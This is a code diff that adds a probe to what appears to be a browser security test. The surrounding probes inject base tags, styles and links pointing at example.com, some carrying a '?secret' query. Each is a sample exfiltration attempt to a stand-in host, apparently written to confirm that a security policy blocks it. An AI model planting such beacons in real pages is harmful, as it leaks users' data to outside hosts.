@@ -49,6 +49,7 @@ const PROBES = {
   },
   "another base": () => document.head.append(Object.assign(document.createElement("base"), { href: "https://example.com/" })),
   "a style as an attribute": () => document.body.setAttribute("style", "background: url(https://example.com/?secret)"),
+  "a page fetched ahead elsewhere": () => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "https://example.com/?secret" })),
   "a style sheet elsewhere": () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://example.com/x.css" })),
 };
 
